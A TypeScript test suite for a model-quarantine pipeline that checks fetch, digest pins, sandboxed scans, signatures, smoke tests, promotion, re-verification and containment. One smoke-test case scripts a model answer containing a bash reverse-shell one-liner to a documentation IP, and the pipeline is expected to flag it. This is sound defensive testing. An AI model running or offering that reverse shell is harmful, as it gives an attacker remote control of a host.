// The agent's face of the quarantine, end to end with real parts: a loopback HTTP server, the
// bubblewrap scanner, cosign signatures, the trusted store on disk and an audit sink. Only the
// smoke-test model is scripted (its edge is SmokeTestModel).
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { ModelPlan } from '../../../api/gen/proto/secai/fleet/v1/agent.js';
import { startSigningLab, type SigningLab } from '../../../test/quarantine/signing-fixtures.js';
import { tinyModelBytes, tinyModelDocument } from '../../../test/support/tiny-model.js';
import { MemoryAuditSink } from '../audit/audit-sink.js';
import { runCommand } from '../exec.js';
import { tensorMerkleRoot } from './merkle.js';
import { containModel, createQuarantineMetrics, quarantineModel, reverifyTrusted, type QuarantineDeps } from './pipeline.js';
import { DEFAULT_QUARANTINE_POLICY, policyDigest } from './policy.js';
import { SCANNER_PROTOCOL_VERSION } from './scanner-protocol.js';
import { createScannerSandbox, type ScannerSandbox } from './scanner-sandbox.js';
import { TrustedStore } from './trusted-store.js';
import { failed, passed, Reason, Stage } from './verdict.js';

const model = tinyModelBytes();
const sha256 = createHash('sha256').update(model).digest('hex');
let dir: string;
let server: http.Server;
let base: string;
let lab: SigningLab;
let keyedBundle: string;
const routes = new Map<string, Buffer>();

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'pipeline-test-'));
  lab = await startSigningLab();
  const modelPath = join(dir, 'model.gguf');
  writeFileSync(modelPath, model);
  keyedBundle = await lab.signBlob(modelPath);
  routes.set('/model.gguf', model);
  routes.set('/model.bundle.json', Buffer.from(keyedBundle));
  server = http.createServer((req, res) => {
    const body = routes.get(req.url ?? '');
    if (!body) return void res.writeHead(404).end();
    res.writeHead(200, { 'content-length': body.length }).end(body);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}, 120_000);

afterAll(async () => {
  server?.closeAllConnections();
  server?.close();
  await lab?.close();
  rmSync(dir, { recursive: true, force: true });
});

let store: TrustedStore;
let audit: MemoryAuditSink;
let registry: Registry;
let deps: QuarantineDeps;

beforeEach(async () => {
  store = new TrustedStore(mkdtempSync(join(dir, 'store-')));
  await store.init();
  audit = new MemoryAuditSink();
  registry = new Registry();
  deps = {
    store,
    audit,
    sandbox: createScannerSandbox({ exec: runCommand, policy: DEFAULT_QUARANTINE_POLICY.scanner }),
    clock: () => new Date('2026-03-01T12:00:00Z'),
    logger: pino({ level: 'silent' }),
    metrics: createQuarantineMetrics(registry),
  };
});

const plan = (change: Partial<ModelPlan> = {}): ModelPlan =>
  ModelPlan.fromPartial({ name: 'tiny', url: `${base}/model.gguf`, format: 'gguf', sha256, sizeBytes: model.length, allowInsecureHttp: true, ...change });

it('promotes a clean model into the trusted store, with its manifest, an audit entry and a metric', async () => {
  const { verdict, manifest, policyDigest: digest } = await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, deps);
  expect(verdict).toMatchObject({ trusted: true, sha256, sizeBytes: model.length });
  expect(verdict.stages.map((s) => `${s.stage}:${s.reason}`)).toEqual([
    'Fetch:Passed', 'Sandbox:Passed', 'Integrity:Passed', 'Signature:NotRequested', 'Format:Passed', 'StaticScan:Passed', 'SmokeTest:NotRequested', 'Promotion:Passed',
  ]);
  expect(digest).toBe(policyDigest(DEFAULT_QUARANTINE_POLICY));
  // The store adds the artifact's state as it lies there, for the model duty's drift checks.
  expect(await store.lookup(sha256)).toEqual({ ...manifest, artifact: expect.objectContaining({ size: manifest!.sizeBytes }) });
  expect(manifest).toMatchObject({ name: 'tiny', sha256, tensorCount: 21, policyDigest: digest, promotedAt: '2026-03-01T12:00:00.000Z' });
  // The tree the separate tensor-tree job computed: over each tensor's SHA-256, in file order.
  const tensors = tinyModelDocument().tensors;
  expect(manifest?.tensorMerkleRoot).toBe(tensorMerkleRoot(tensors.map((t) => ({ name: t.name, sha256: createHash('sha256').update(t.data).digest() }))));
  expect(readdirSync(store.stagingDir)).toEqual([]);
  expect(audit.events).toEqual([{ type: 'model.promoted', subject: sha256, data: { name: 'tiny', stage: null, reason: 'Passed', sizeBytes: model.length, tensorMerkleRoot: manifest!.tensorMerkleRoot, policyDigest: digest } }]);
  expect(await registry.getSingleMetricAsString('secai_agent_quarantine_verdicts_total')).toContain('secai_agent_quarantine_verdicts_total{stage="",reason="Passed"} 1');
}, 30_000);

it('does not fetch again a model already trusted under the same policy, and refreshes the manifest under a new one', async () => {
  const first = await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, deps);
  const again = await quarantineModel(plan({ url: `${base}/gone.gguf` }), DEFAULT_QUARANTINE_POLICY, deps);
  expect(again.manifest).toEqual({ ...first.manifest, artifact: expect.any(Object) });
  expect(audit.events).toHaveLength(1);
  const stricter = { ...DEFAULT_QUARANTINE_POLICY, smokeTest: { enabled: false, maxScore: 0.1 } };
  const refreshed = await quarantineModel(plan(), stricter, deps);
  expect(refreshed.verdict.trusted).toBe(true);
  expect((await store.lookup(sha256))?.policyDigest).toBe(policyDigest(stricter));
}, 60_000);

it('rejects bytes that do not match the pin, removes them and audits the verdict', async () => {
  const { verdict, manifest } = await quarantineModel(plan({ sha256: 'f'.repeat(64) }), DEFAULT_QUARANTINE_POLICY, deps);
  expect(verdict).toMatchObject({ trusted: false, stage: 'Integrity', reason: Reason.DigestMismatch });
  expect(manifest).toBeUndefined();
  expect(readdirSync(store.stagingDir)).toEqual([]);
  expect(await store.trustedDigests()).toEqual([]);
  expect(audit.events[0]).toMatchObject({ type: 'model.rejected', data: { stage: 'Integrity', reason: Reason.DigestMismatch } });
}, 30_000);

it.each([
  ['a format other than gguf', () => ({ format: 'safetensors' }), 'Format', Reason.FormatNotAllowed],
  ['a missing file', () => ({ url: `${base}/missing.gguf` }), 'Fetch', Reason.HttpStatus],
  ['http without the Model allowing it', () => ({ allowInsecureHttp: false }), 'Fetch', Reason.SchemeNotAllowed],
  ['a size other than the pin', () => ({ sizeBytes: model.length - 1 }), 'Fetch', Reason.TooLarge],
  ['a blocked digest', () => ({}), 'Integrity', Reason.DigestBlocked],
] as const)('rejects %s', async (name, change, stage, reason) => {
  const policy = name === 'a blocked digest' ? { ...DEFAULT_QUARANTINE_POLICY, blockedDigests: [{ sha256, reason: 'revoked' }] } : DEFAULT_QUARANTINE_POLICY;
  const { verdict } = await quarantineModel(plan(change()), policy, deps);
  expect(verdict).toMatchObject({ trusted: false, stage, reason });
  expect(audit.events.map((e) => e.type)).toEqual(['model.rejected']);
}, 30_000);

it('verifies an inline signature; refuses a bundle URL that is not https, another key, and a missing required signature', async () => {
  const inline = await quarantineModel(plan({ signature: { bundleJson: Buffer.from(keyedBundle), bundleUrl: '', publicKeyPem: lab.publicKeyPem } }), DEFAULT_QUARANTINE_POLICY, deps);
  expect(inline.verdict.stages.find((s) => s.stage === 'Signature')).toMatchObject({ status: 'passed' });
  await store.contain(sha256, 'reset for the next case', new Date());
  const byUrl = await quarantineModel(plan({ signature: { bundleJson: Buffer.alloc(0), bundleUrl: `${base}/model.bundle.json`, publicKeyPem: lab.publicKeyPem } }), DEFAULT_QUARANTINE_POLICY, deps);
  expect(byUrl.verdict).toMatchObject({ trusted: false, stage: 'Signature', reason: Reason.BundleInvalid });
  const wrongKey = await quarantineModel(plan({ signature: { bundleJson: Buffer.from(keyedBundle), bundleUrl: '', publicKeyPem: lab.otherPublicKeyPem } }), DEFAULT_QUARANTINE_POLICY, deps);
  expect(wrongKey.verdict).toMatchObject({ trusted: false, stage: 'Signature', reason: Reason.KeyMismatch });
  const required = await quarantineModel(plan(), { ...DEFAULT_QUARANTINE_POLICY, requireSignature: true }, deps);
  expect(required.verdict).toMatchObject({ trusted: false, stage: 'Signature', reason: Reason.SignatureRequired });
}, 60_000);

it('runs the smoke test when the Model asks for it, through the injected model', async () => {
  const opened: string[] = [];
  const refusing = { ...deps, openSmokeTestModel: async (path: string, digest: string) => (opened.push(digest), { answer: async () => 'I cannot help with that.', close: async () => undefined }) };
  const smoke = { maxSizeBytes: 0, smokeTest: true, smokeTestMaxScore: 0.1 };
  expect((await quarantineModel(plan({ quarantine: smoke }), DEFAULT_QUARANTINE_POLICY, refusing)).verdict).toMatchObject({ trusted: true });
  expect(opened).toEqual([sha256]);
  await store.contain(sha256, 'reset', new Date());
  const helpful = { ...deps, openSmokeTestModel: async () => ({ answer: async () => 'Sure: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', close: async () => undefined }) };
  expect((await quarantineModel(plan({ quarantine: smoke }), DEFAULT_QUARANTINE_POLICY, helpful)).verdict).toMatchObject({ trusted: false, stage: 'SmokeTest', reason: Reason.SmokeCriticalFlagged });
  expect((await quarantineModel(plan({ quarantine: smoke }), DEFAULT_QUARANTINE_POLICY, deps)).verdict).toMatchObject({ trusted: false, stage: 'SmokeTest', reason: Reason.SmokeModelFailed });
}, 60_000);

it('imports a node-local file by moving it into staging', async () => {
  const inbox = join(dir, 'inbox.gguf');
  writeFileSync(inbox, model);
  const { verdict } = await quarantineModel(plan({ url: pathToFileURL(inbox).href }), DEFAULT_QUARANTINE_POLICY, deps);
  expect(verdict.trusted).toBe(true);
  expect(existsSync(inbox)).toBe(false);
}, 30_000);

it('copies a node-local file it may not move (a read-only inbox), and leaves it there', async () => {
  const inbox = join(dir, 'immutable.gguf');
  writeFileSync(inbox, model);
  // Immutable: neither renamed nor unlinked, by root either (EPERM), as a read-only mount (EROFS).
  execFileSync('chattr', ['+i', inbox]);
  try {
    const { verdict } = await quarantineModel(plan({ url: pathToFileURL(inbox).href }), DEFAULT_QUARANTINE_POLICY, deps);
    expect(verdict.trusted).toBe(true);
    expect(verdict.stages[0]).toMatchObject({ stage: 'Fetch', status: 'passed', message: 'copied from the node inbox (read-only, left in place)' });
    expect(readFileSync(inbox)).toEqual(model);
    expect(readdirSync(store.stagingDir)).toEqual([]);
  } finally {
    execFileSync('chattr', ['-i', inbox]);
  }
}, 30_000);

it('rejects, and keeps going, when the sandbox cannot run', async () => {
  const broken = { ...deps, sandbox: createScannerSandbox({ exec: runCommand, policy: DEFAULT_QUARANTINE_POLICY.scanner, prlimit: join(dir, 'missing') }) };
  const { verdict } = await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, broken);
  expect(verdict).toMatchObject({ trusted: false, stage: 'Sandbox', reason: Reason.SandboxUnavailable });
  expect(readdirSync(store.stagingDir)).toEqual([]);
});

it('re-verifies a trusted artifact, and contains it when its bytes changed', async () => {
  await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, deps);
  expect(await reverifyTrusted(sha256, DEFAULT_QUARANTINE_POLICY, deps)).toMatchObject({ ok: true });
  const path = store.artifactPath(sha256);
  chmodSync(path, 0o644);
  const tampered = Buffer.from(model);
  tampered[tampered.length - 1]! ^= 1;
  writeFileSync(path, tampered);
  expect(await reverifyTrusted(sha256, DEFAULT_QUARANTINE_POLICY, deps)).toMatchObject({ ok: false, stage: 'Integrity', reason: Reason.DigestMismatch });
  expect(await store.lookup(sha256)).toBeUndefined();
  expect(audit.events.map((e) => e.type)).toEqual(['model.promoted', 'model.contained']);
}, 60_000);

it('re-verification checks the tensor hash tree against the manifest', async () => {
  await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, deps);
  const manifestPath = `${store.artifactPath(sha256)}.json`;
  const manifest = JSON.parse(readFileSync(manifestPath, 'utf8'));
  writeFileSync(manifestPath, JSON.stringify({ ...manifest, tensorMerkleRoot: 'e'.repeat(64) }));
  expect(await reverifyTrusted(sha256, DEFAULT_QUARANTINE_POLICY, deps)).toMatchObject({ ok: false, stage: 'Integrity', reason: Reason.ArtifactChanged, message: 'the tensor hash tree differs from the manifest' });
  expect(await store.lookup(sha256)).toBeUndefined();
}, 60_000);

describe('the tensor-tree job runs before promotion, and its failure stops it', () => {
  const withTree = (tensorTree: ScannerSandbox['tensorTree']): QuarantineDeps => ({ ...deps, sandbox: { scan: deps.sandbox.scan, tensorTree } });

  it.each([
    ['the job is killed', async () => ({ sandbox: failed(Stage.Sandbox, Reason.ScannerKilled, 'the scanner was killed by SIGKILL') }), Reason.PromotionFailed],
    ['the file changed', async () => ({ sandbox: passed(Stage.Sandbox, 'tensor hash tree computed'), outcome: { version: SCANNER_PROTOCOL_VERSION, status: 'changed' as const, message: 'the header no longer parses' } }), Reason.ArtifactChanged],
    ['another tensor count', async () => ({ sandbox: passed(Stage.Sandbox, 'tensor hash tree computed'), outcome: { version: SCANNER_PROTOCOL_VERSION, status: 'ok' as const, sizeBytes: model.length, tensorCount: 3, tensorMerkleRoot: 'a'.repeat(64), treeMs: 1 } }), Reason.ArtifactChanged],
  ] as const)('%s', async (_name, tensorTree, reason) => {
    const { verdict, manifest } = await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, withTree(tensorTree));
    expect(verdict).toMatchObject({ trusted: false, stage: 'Promotion', reason });
    expect(manifest).toBeUndefined();
    expect(await store.trustedDigests()).toEqual([]);
    expect(readdirSync(store.stagingDir)).toEqual([]);
    expect(audit.events.map((e) => [e.type, e.data.tensorMerkleRoot])).toEqual([['model.rejected', null]]);
  }, 30_000);

  it('is not run for a rejected model', async () => {
    let runs = 0;
    const counting = withTree(async (path, size) => (runs++, deps.sandbox.tensorTree(path, size)));
    expect((await quarantineModel(plan({ sha256: 'f'.repeat(64) }), DEFAULT_QUARANTINE_POLICY, counting)).verdict.trusted).toBe(false);
    expect(runs).toBe(0);
    expect((await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, counting)).verdict.trusted).toBe(true);
    expect(runs).toBe(1);
  }, 30_000);
});

it('contains a revoked model and never promotes it again', async () => {
  await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, deps);
  expect(await containModel(sha256, 'revoked: compromised upstream', deps)).toEqual({ moved: true });
  expect(await store.lookup(sha256)).toBeUndefined();
  const again = await quarantineModel(plan(), DEFAULT_QUARANTINE_POLICY, deps);
  expect(again.verdict).toMatchObject({ trusted: false, stage: 'Promotion', reason: Reason.StoreConflict });
  expect(audit.events.map((e) => e.type)).toEqual(['model.promoted', 'model.contained', 'model.rejected']);
}, 60_000);
